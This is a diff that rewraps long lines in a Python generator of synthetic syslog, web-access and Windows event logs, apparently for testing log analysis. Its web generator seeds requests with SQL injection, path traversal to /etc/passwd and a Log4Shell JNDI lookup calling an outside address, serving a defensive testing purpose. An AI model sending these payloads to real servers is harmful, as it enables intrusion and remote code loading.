@@ -31,7 +31,9 @@ CORPORA = Path(os.environ.get("VONGGAC_CORPORA", Path(__file__).parent.parent.pa
 START = datetime(2026, 11, 23, tzinfo=UTC)
 LINES_AT_ONCE = 2000
 
-_USERS = tuple(f"{name}{number}" for name in ("lan", "minh", "hoa", "tuan", "admin", "oracle", "test") for number in range(60))
+_USERS = tuple(
+    f"{name}{number}" for name in ("lan", "minh", "hoa", "tuan", "admin", "oracle", "test") for number in range(60)
+)
 _MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
 
 
@@ -89,7 +91,9 @@ def syslog(n: int, random: Random) -> Iterator[str]:
         yield f"{clock(moment)} srv-{bits(6):02} {make()}"
 
 
-def _chosen(random: Random, makers: tuple[Callable[[], str], ...], weights: tuple[int, ...]) -> Iterator[Callable[[], str]]:
+def _chosen(
+    random: Random, makers: tuple[Callable[[], str], ...], weights: tuple[int, ...]
+) -> Iterator[Callable[[], str]]:
     while True:
         yield from random.choices(makers, weights, k=4096)
 
@@ -111,11 +115,22 @@ def web(n: int, random: Random) -> Iterator[str]:
     """Requests in the combined log format; one in two hundred is an attack."""
     clock = Clock(lambda t: f"{t.day:02}/{_MONTHS[t.month - 1]}/{t:%Y:%H:%M:%S} +0000")
     bits = random.getrandbits
-    agents = tuple(f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36" for v in range(90, 142))
-    attacks = ("/x?id=1%20UNION%20SELECT%20{}", "/get?f=../../../../etc/passwd{}", "/?q=${{jndi:ldap://198.51.100.9/{}}}")
+    agents = tuple(
+        f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"
+        for v in range(90, 142)
+    )
+    attacks = (
+        "/x?id=1%20UNION%20SELECT%20{}",
+        "/get?f=../../../../etc/passwd{}",
+        "/?q=${{jndi:ldap://198.51.100.9/{}}}",
+    )
     for moment in moments(n):
         attack = bits(8) == 0
-        uri = random.choice(attacks).format(bits(20)) if attack else f"/page/{bits(10)}/item-{bits(18)}?ref={bits(16):x}&lang=vi"
+        uri = (
+            random.choice(attacks).format(bits(20))
+            if attack
+            else f"/page/{bits(10)}/item-{bits(18)}?ref={bits(16):x}&lang=vi"
+        )
         status = 404 if bits(5) == 0 else 200
         yield (
             f'{outer(random)} - - [{clock(moment)}] "GET {uri} HTTP/1.1" {status} {bits(16)} '
@@ -229,7 +244,9 @@ def main(arguments: list[str] | None = None) -> None:
     parser.add_argument("n", type=int, help="how many events")
     parser.add_argument("--output", type=Path, help="file to write; standard output without it")
     parser.add_argument("--seed", type=int, default=20261124)
-    parser.add_argument("--attack-share", type=float, default=0.09, help="share of windows-jsonl events copied from attack samples")
+    parser.add_argument(
+        "--attack-share", type=float, default=0.09, help="share of windows-jsonl events copied from attack samples"
+    )
     parser.add_argument("--corpora", type=Path, default=CORPORA, help="folder of the samples")
     asked = parser.parse_args(arguments)
     if asked.n < 0 or not 0 <= asked.attack_share <= 1:
